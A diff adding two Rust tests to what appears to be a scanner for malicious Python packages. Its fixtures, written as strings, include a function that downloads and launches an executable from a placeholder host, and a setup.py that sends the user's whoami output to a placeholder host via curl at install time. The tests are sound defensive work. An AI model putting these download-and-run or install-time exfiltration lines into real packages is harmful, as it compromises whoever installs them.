@@ -354,3 +354,46 @@ fn replaced_install_command_that_runs_make_is_not_malicious() {
     ]);
     assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
 }
+
+#[test]
+fn download_written_in_chunks_then_started_is_malicious() {
+    // `for chunk in r.iter_content(): f.write(chunk)` carries the download into the file
+    // that is started next, even in a function nothing calls yet.
+    assert_level(
+        &[
+            PKG_INFO,
+            ("fixture/__init__.py", "\n"),
+            (
+                "fixture/update.py",
+                "import subprocess, requests\n\
+                 def update():\n    \
+                     r = requests.get('http://cdn.example.invalid/u.exe', stream=True)\n    \
+                     with open('u.exe', 'wb') as f:\n        \
+                         for chunk in r.iter_content(chunk_size=8192):\n            \
+                             f.write(chunk)\n    \
+                     subprocess.Popen(['u.exe'])\n",
+            ),
+        ],
+        VerdictLevel::Malicious,
+    );
+}
+
+#[test]
+fn recon_command_line_run_from_setup_py_is_flagged() {
+    // A shell one-liner handed to `os.system` is read as shell: the download tool and the
+    // host identity in its URL count, not just "runs a program".
+    let verdict = verdict(&[
+        PKG_INFO,
+        (
+            "setup.py",
+            "import os\nfrom setuptools import setup\n\
+             os.system('curl https://hooks.example.invalid/x?u=$(whoami)')\n\
+             setup(name='fixture', version='1.0')\n",
+        ),
+    ]);
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+    assert!(
+        verdict.reasons.iter().any(|r| r.rule == "host-recon"),
+        "{verdict:#?}"
+    );
+}
